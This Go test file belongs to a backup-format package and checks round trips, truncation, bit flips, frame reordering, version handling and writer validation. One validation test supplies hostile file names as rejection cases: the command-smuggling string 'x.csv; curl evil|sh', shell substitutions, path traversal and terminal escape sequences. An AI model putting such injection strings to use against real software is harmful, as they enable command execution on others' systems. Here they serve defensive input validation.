package backup

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// whole is a backup in memory, with what a reader has to find in it.
type whole struct {
	header    Header
	snapshots [][]byte
	records   [][]byte
	files     map[string][]byte
	order     []string
	totals    Totals
}

func sample(records int) whole {
	r := rand.New(rand.NewPCG(1, 2))
	noise := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return b
	}
	w := whole{
		header: Header{Version: "test", At: time.UnixMilli(1_795_333_377_000).UTC(), Log: strings.Repeat("0f", 16), Genesis: 7, First: 41, CSV: "readings.csv"},
		files:  map[string][]byte{},
		totals: Totals{Readings: 1_000_000, Trimmed: 17, From: 1_795_333_377_000, To: 1_795_333_378_000},
	}
	for i, b := range [][]byte{noise(300), {}, []byte(strings.Repeat("state ", 100))} {
		w.snapshots = append(w.snapshots, b)
		w.header.Snapshots = append(w.header.Snapshots, Snapshot{Pos: 38 + uint64(i), At: int64(i), Size: int64(len(b))})
	}
	for i := range records {
		w.records = append(w.records, append([]byte(fmt.Sprintf("record %d ", i)), noise(r.IntN(60))...))
	}
	w.header.Last = 40 + uint64(records)
	for name, b := range map[string][]byte{"readings.csv": []byte(strings.Repeat("1,101,202611220242,24.5,61\n", 40)), "history/empty": {}, "history/noise": noise(200), "año (2) O'Brien.csv": noise(3)} {
		w.files[name] = b
	}
	w.order = []string{"readings.csv", "año (2) O'Brien.csv", "history/empty", "history/noise"}
	return w
}

func (w *whole) write(t testing.TB, out io.Writer) {
	t.Helper()
	b, err := NewWriter(out, w.header)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range w.snapshots {
		err = errors.Join(err, b.Snapshot(s))
	}
	for i, rec := range w.records {
		err = errors.Join(err, b.Record(w.header.First+uint64(i), rec))
	}
	for _, name := range w.order {
		err = errors.Join(err, b.File(File{Path: name, Size: int64(len(w.files[name]))}, bytes.NewReader(append(w.files[name], "what was appended meanwhile"...))))
	}
	if err := errors.Join(err, b.Totals(w.totals), b.Close()); err != nil {
		t.Fatal(err)
	}
	if b.Close() == nil || b.Totals(w.totals) == nil || b.Record(w.header.Last+1, nil) == nil {
		t.Error("it goes on behind its end")
	}
}

// read reads a backup to its end.
func read(in io.Reader) (whole, error) {
	var w whole
	r, err := NewReader(in)
	if err != nil {
		return w, err
	}
	defer r.Close()
	w.header, w.files, w.snapshots = r.Header(), map[string][]byte{}, make([][]byte, len(r.Header().Snapshots))
	for {
		p, err := r.Next()
		if err == io.EOF {
			if t := r.Totals(); t != nil {
				w.totals = *t
			}
			return w, nil
		}
		if r.Totals() != nil {
			return w, errors.New("the totals of a backup that was not read to its end are told")
		}
		if err != nil {
			if _, again := r.Next(); again != err {
				return w, fmt.Errorf("%w, and then %w", err, again)
			}
			return w, err
		}
		switch p.Kind {
		case PartSnapshot:
			w.snapshots[p.Index] = append(w.snapshots[p.Index], p.Data...)
		case PartRecord:
			if p.Seq != w.header.First+uint64(len(w.records)) {
				return w, fmt.Errorf("record %d comes as number %d", p.Seq, len(w.records))
			}
			w.records = append(w.records, bytes.Clone(p.Data))
		case PartFile:
			w.order = append(w.order, p.File.Path)
			w.files[p.File.Path] = nil
		case PartData:
			name := w.order[len(w.order)-1]
			w.files[name] = append(w.files[name], p.Data...)
		}
	}
}

// prints is all of a backup, to be compared.
func (w *whole) prints() string {
	text := fmt.Sprintf("%+v %+v %q %q", w.header, w.totals, w.snapshots, w.records)
	for _, name := range w.order {
		text += fmt.Sprintf(" %s %q", name, w.files[name])
	}
	return text
}

func TestWhatIsReadIsWhatWasWritten(t *testing.T) {
	for _, n := range []int{1, 2, 500, 60_000} {
		w := sample(n)
		var b bytes.Buffer
		w.write(t, &b)
		got, err := read(&b)
		w.header.Format = Format
		if err != nil || got.prints() != w.prints() {
			t.Errorf("%d records: another backup came back, %v", n, err)
		}
	}
}

func TestLargePieces(t *testing.T) {
	w := sample(3)
	w.records[1] = bytes.Repeat([]byte("0123456789abcdef"), maxRecord/16)
	w.snapshots[2] = bytes.Repeat([]byte("x"), 3*pieceSize+1)
	w.header.Snapshots[2].Size = int64(len(w.snapshots[2]))
	w.files["readings.csv"] = bytes.Repeat([]byte("row\n"), pieceSize)
	var b bytes.Buffer
	w.write(t, &b)
	got, err := read(&b)
	w.header.Format = Format
	if err != nil || got.prints() != w.prints() {
		t.Errorf("another backup came back, %v", err)
	}
}

// known reports whether an error is one that a person is told something of.
func known(err error) bool {
	return errors.Is(err, ErrNotABackup) || errors.Is(err, ErrCut) || errors.Is(err, ErrDamaged) || errors.Is(err, ErrLater)
}

// TestEveryCutIsAnError cuts a backup behind every byte.
func TestEveryCutIsAnError(t *testing.T) {
	w := sample(20)
	var b bytes.Buffer
	w.write(t, &b)
	for n := range b.Len() {
		_, err := read(bytes.NewReader(b.Bytes()[:n]))
		want := ErrCut
		if n == 0 {
			want = ErrNotABackup
		}
		if !errors.Is(err, want) {
			t.Errorf("cut at %d of %d: %v", n, b.Len(), err)
		}
	}
}

// TestEveryFlippedBitIsAnError flips every bit of a backup, and puts a byte behind it.
func TestEveryFlippedBitIsAnError(t *testing.T) {
	w := sample(20)
	var b bytes.Buffer
	w.write(t, &b)
	for n := range b.Len() * 8 {
		damaged := bytes.Clone(b.Bytes())
		damaged[n/8] ^= 1 << (n % 8)
		if _, err := read(bytes.NewReader(damaged)); !known(err) {
			t.Errorf("bit %d of byte %d: %v", n%8, n/8, err)
		}
	}
	if _, err := read(bytes.NewReader(append(b.Bytes(), 0))); !errors.Is(err, ErrDamaged) {
		t.Errorf("with a byte behind its end: %v", err)
	}
}

// TestFramesOfAnotherPlace: frames that are whole, but not where they were written.
func TestFramesOfAnotherPlace(t *testing.T) {
	w := sample(200_000) // several frames of records
	w.header.Snapshots, w.snapshots, w.header.Genesis = nil, nil, w.header.First
	var b bytes.Buffer
	w.write(t, &b)
	var frames [][]byte
	for rest := b.Bytes()[len(Magic):]; len(rest) > 0; {
		n := frameHead + int(rest[1]) + int(rest[2])<<8 + int(rest[3])<<16 + frameTail
		frames, rest = append(frames, rest[:n]), rest[n:]
	}
	join := func(order ...int) io.Reader {
		all := []byte(Magic)
		for _, i := range order {
			all = append(all, frames[i]...)
		}
		return bytes.NewReader(all)
	}
	if frames[2][0] != frameRecords || frames[3][0] != frameRecords {
		t.Fatalf("too few frames of records: %d", len(frames))
	}
	for _, order := range [][]int{{0, 1, 3}, {0, 1, 1}, {0, 2, 1}, {0, 0}, {1}, {0, len(frames) - 1}} {
		if _, err := read(join(order...)); !errors.Is(err, ErrDamaged) {
			t.Errorf("frames %v: %v", order, err)
		}
	}
}

func TestWhatIsNoBackup(t *testing.T) {
	for _, text := range []string{"", "V", "VAIVENB", "VAIVENB1", "IDdato,IDdevice,TIMEFLAG,TEMP,HUM\n", "VAIVENB2xxxxxxxxxxxxx"} {
		if _, err := read(strings.NewReader(text)); !errors.Is(err, ErrNotABackup) && !errors.Is(err, ErrCut) {
			t.Errorf("%q: %v", text, err)
		}
	}
	failing := io.MultiReader(strings.NewReader(Magic), &broken{})
	if _, err := read(failing); !errors.Is(err, errBroken) {
		t.Errorf("a disk that fails: %v", err)
	}
}

var errBroken = errors.New("broken")

type broken struct{}

func (*broken) Read([]byte) (int, error)  { return 0, errBroken }
func (*broken) Write([]byte) (int, error) { return 0, errBroken }

// TestLater: the form of a later vaiven is told as such, whatever its header holds.
func TestLater(t *testing.T) {
	var b bytes.Buffer
	w := &Writer{out: &b, sum: sampleSum()}
	w.write([]byte(Magic))
	w.writeJSON(frameHeader, map[string]any{"format": Format + 1, "log": 7})
	if _, err := NewReader(&b); !errors.Is(err, ErrLater) {
		t.Error(err)
	}
}

// TestAnEarlierFormIsRead: that of a vaiven which wrote no totals.
func TestAnEarlierFormIsRead(t *testing.T) {
	f, err := os.Open(filepath.Join("testdata", "form1.backup"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r, err := NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	parts := 0
	for ; err == nil; parts++ {
		_, err = r.Next()
	}
	if err != io.EOF || parts < 4 || r.Totals() != nil || r.Header().Format != 1 {
		t.Errorf("%+v, %d parts, totals: %v, %v", r.Header(), parts, r.Totals(), err)
	}
}

// TestTotalsHaveOnePlace: behind everything, once, and in this form only.
func TestTotalsHaveOnePlace(t *testing.T) {
	h := Header{Log: strings.Repeat("0f", 16), Genesis: 1, First: 1, Last: 1}
	for name, tt := range map[string]struct {
		format int
		write  func(*Writer)
		want   error
	}{
		"well": {Format, func(w *Writer) { _ = w.Record(1, nil); _ = w.Totals(Totals{Readings: 2}); _ = w.Close() }, io.EOF},
		"none": {Format, func(w *Writer) { _ = w.Record(1, nil); w.totals = true; _ = w.Close() }, ErrDamaged},
		"twice": {Format, func(w *Writer) {
			_ = w.Record(1, nil)
			_ = w.Totals(Totals{})
			w.totals = false
			_ = w.Totals(Totals{})
			_ = w.Close()
		}, ErrDamaged},
		"too early": {Format, func(w *Writer) {
			w.writeJSON(frameTotals, Totals{})
			_ = w.Record(1, nil)
			w.totals = true
			_ = w.Close()
		}, ErrDamaged},
		"impossible": {Format, func(w *Writer) {
			_ = w.Record(1, nil)
			w.writeJSON(frameTotals, Totals{Trimmed: 1})
			w.totals = true
			_ = w.Close()
		}, ErrDamaged},
		"old form": {1, func(w *Writer) { _ = w.Record(1, nil); _ = w.Totals(Totals{}); _ = w.Close() }, ErrDamaged},
		"file behind": {Format, func(w *Writer) {
			_ = w.Record(1, nil)
			_ = w.Totals(Totals{})
			w.writeJSON(frameFile, File{Path: "x"})
			_ = w.Close()
		}, ErrDamaged},
	} {
		var b bytes.Buffer
		w, err := NewWriter(&b, h)
		if err != nil {
			t.Fatal(err)
		}
		if tt.format != Format { // begin again
			b.Reset()
			w.sum, w.crc = sampleSum(), 0
			old := h
			old.Format = tt.format
			w.write([]byte(Magic))
			w.writeJSON(frameHeader, old)
		}
		tt.write(w)
		r, err := NewReader(&b)
		for err == nil {
			_, err = r.Next()
		}
		if !errors.Is(err, tt.want) {
			t.Errorf("%s: %v", name, err)
		}
		r.Close()
	}
}

// TestWriterRefuses: what would make a wrong backup makes none.
func TestWriterRefuses(t *testing.T) {
	good := sample(2)
	for i, change := range []func(*Header){
		func(h *Header) { h.Log = "x" }, func(h *Header) { h.Genesis = 0 }, func(h *Header) { h.Genesis = 42 }, func(h *Header) { h.Last = h.First - 1 },
		func(h *Header) { h.Snapshots = h.Snapshots[:2] },
		func(h *Header) { h.Snapshots[1].Pos = 38 }, func(h *Header) { h.Snapshots[2].Pos = 100 }, func(h *Header) { h.Snapshots[0].Size = -1 },
		func(h *Header) { h.CSV = "../x" }, func(h *Header) { h.CSV = "a/b" },
		func(h *Header) { h.CSV = "x.csv; curl evil|sh" }, func(h *Header) { h.CSV = "x\x1b[2J.csv" },
	} {
		h := good.header
		h.Snapshots = append([]Snapshot(nil), h.Snapshots...)
		change(&h)
		if _, err := NewWriter(io.Discard, h); err == nil {
			t.Errorf("header %d was taken", i)
		}
	}
	for name, wrong := range map[string]func(*Writer) error{
		"totals too early":              func(w *Writer) error { return w.Totals(Totals{}) },
		"a record before the snapshots": func(w *Writer) error { return w.Record(41, nil) },
		"a file before the records":     func(w *Writer) error { return w.File(File{Path: "a"}, nil) },
		"an end before the records":     (*Writer).Close,
		"another snapshot":              func(w *Writer) error { return w.Snapshot(nil) },
	} {
		w, err := NewWriter(io.Discard, good.header)
		if err == nil && wrong(w) == nil {
			t.Errorf("%s was taken", name)
		}
	}
	for _, p := range []string{"", ".", "..", "../a", "/a", "a/../b", "a//b", `a\b`, "c:a", "a\x00", "a\x1b[2J.csv", "a\n.csv", "a\u202e.csv", "a\xff", "-a", "x.csv; curl evil|sh", "$(x).csv", "`x`", strings.Repeat("a", maxPath+1)} {
		h := good.header
		h.Snapshots, h.Genesis = nil, h.First
		w, err := NewWriter(io.Discard, h)
		if err := errors.Join(err, w.Record(41, nil), w.Record(42, nil)); err != nil {
			t.Fatal(err)
		}
		if w.File(File{Path: p}, strings.NewReader("")) == nil || w.Close() == nil {
			t.Errorf("path %q was taken", p)
		}
	}
	w, err := NewWriter(io.Discard, Header{Log: good.header.Log, Genesis: 1, First: 1, Last: 1})
	if err = errors.Join(err, w.Record(1, nil)); err != nil {
		t.Fatal(err)
	}
	if err := w.File(File{Path: "readings.csv", Size: 10}, strings.NewReader("short")); !errors.Is(err, io.ErrUnexpectedEOF) || w.Close() == nil {
		t.Errorf("a file that is shorter than it was: %v", err)
	}
	if _, err := NewWriter(&broken{}, good.header); !errors.Is(err, errBroken) {
		t.Errorf("a disk that fails: %v", err)
	}
}

// FuzzReader: whatever is read, it is a backup with all that its header says, or an
// error that says what is wrong.
func FuzzReader(f *testing.F) {
	w := sample(5)
	var b bytes.Buffer
	w.write(f, &b)
	f.Add(b.Bytes())
	f.Add([]byte(Magic))
	f.Add(b.Bytes()[:b.Len()/2])
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := read(bytes.NewReader(fixChecksums(data)))
		if err != nil {
			if !known(err) {
				t.Fatal(err)
			}
			return
		}
		if uint64(len(got.records)) != got.header.Last-got.header.First+1 {
			t.Fatalf("%d records for %d to %d", len(got.records), got.header.First, got.header.Last)
		}
		for i, s := range got.header.Snapshots {
			if int64(len(got.snapshots[i])) != s.Size {
				t.Fatalf("%d bytes of snapshot %d, which has %d", len(got.snapshots[i]), i, s.Size)
			}
		}
	})
}
